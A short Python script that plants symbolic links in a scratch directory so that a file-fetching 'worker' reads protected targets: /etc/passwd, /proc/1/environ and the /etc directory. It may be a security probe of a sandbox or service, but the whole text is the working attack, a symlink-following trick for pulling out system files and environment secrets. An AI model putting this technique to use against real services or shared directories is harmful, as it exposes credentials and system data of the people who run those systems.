# Plants links in the scratch directory, hoping the worker follows them when it fetches files.
import os

os.symlink("/etc/passwd", "result.txt")
os.symlink("/proc/1/environ", "environ.txt")
os.mkdir("sub")
os.symlink("/etc", "linkdir")
print("planted")
